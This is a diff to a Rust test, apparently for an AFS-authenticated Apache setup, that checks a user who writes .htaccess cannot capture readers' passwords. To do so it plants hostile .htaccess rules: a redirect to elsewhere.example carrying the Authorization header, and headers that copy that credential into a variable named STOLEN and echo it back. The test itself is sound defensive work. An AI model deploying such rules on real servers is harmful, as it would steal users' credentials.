@@ -483,6 +483,8 @@ fn whoever_may_write_htaccess_learns_no_password_of_who_reads_his_pages() {
          <Directory /afs/{FIRST_CELL}/write/anybody>\nAllowOverride All\nOptions +FollowSymLinks\n</Directory>\n\
          Alias /index {0}\nAlias /fallback {0}\nAlias /linked {0}/link\n<Location /linked>\nAFSAuthType AFS\n</Location>\n\
          <Directory {0}>\nRequire all granted\nOptions +FollowSymLinks\nAllowOverride All\n</Directory>\n\
+         SetEnvIfNoCase ^Authorization$ \"(.+)\" HTTP_AUTHORIZATION=$1\n\
+         Alias /index-linked {0}\n<Location /index-linked>\nDirectoryIndex /linked/page.html\n</Location>\n\
          <Location /index>\nDirectoryIndex {1}\n</Location>\n<Location /fallback>\nFallbackResource {1}\n</Location>\n",
         site.display(),
         at("page.html"),
@@ -495,12 +497,13 @@ fn whoever_may_write_htaccess_learns_no_password_of_who_reads_his_pages() {
     assert_eq!(ask(&world, &httpd, "bob", Request::new("PUT", &at("page.html")).body(b"<p>")).status, 201);
     // The header of the mark shows that each of these ways works.
     let htaccess = "RewriteEngine On\n\
-                    RewriteRule ^go$ http://elsewhere.example/%{HTTP:X-Mark}/%{HTTP:Authorization} [R,L]\n\
+                    RewriteRule ^go$ http://elsewhere.example/%{HTTP:X-Mark}/%{HTTP:Authorization}%{ENV:HTTP_AUTHORIZATION} [R,L]\n\
                     SetEnvIf X-Mark (.+) MARK=$1\nSetEnvIf Authorization (.+) STOLEN=$1\n\
                     Header always set X-By-Env \"%{MARK}e %{STOLEN}e\"\n\
                     RequestHeader set X-Copy \"expr=%{req:X-Mark} %{req:Authorization}\"\n\
                     Header always set X-By-Copy \"expr=%{req:X-Copy}\"\n\
                     Header always set X-By-Expr \"expr=%{req:X-Mark} %{req:Authorization}\"\n\
+                    Header always set X-By-Server \"of the server %{HTTP_AUTHORIZATION}e\"\n\
                     CGIPassAuth On\n";
     seen::change(FIRST_CELL, &format!("{dir}/.htaccess"), htaccess).unwrap();
     let secret = base64(format!("alice:{}", password(world.cell(FIRST_CELL).unwrap(), "alice")).as_bytes());
@@ -508,11 +511,13 @@ fn whoever_may_write_htaccess_learns_no_password_of_who_reads_his_pages() {
     paths.extend([("/index/".to_owned(), "index"), ("/fallback/none".to_owned(), "fallback")]);
     if afs_client() != "userspace" {
         paths.extend([("/linked/page.html".to_owned(), "linked"), ("/linked/go".to_owned(), "go")]);
+        paths.push(("/index-linked/".to_owned(), "index"));
     }
     for (path, name) in paths {
         let request = Request::get(&path).header("X-Mark", "a-mark");
         let r = ask(&world, &httpd, "alice", request);
         let head = format!("{:?}", r.headers);
+        assert_eq!(r.header("X-By-Server"), Some("of the server (null)"), "{name}: {head}");
         // mod_setenvif is done before another file takes the place of what was asked for.
         let by_env = if matches!(name, "index" | "fallback") { "(null) (null)" } else { "a-mark (null)" };
         assert_eq!(r.header("X-By-Env").map(str::trim_end), Some(by_env), "{name}: {head}");
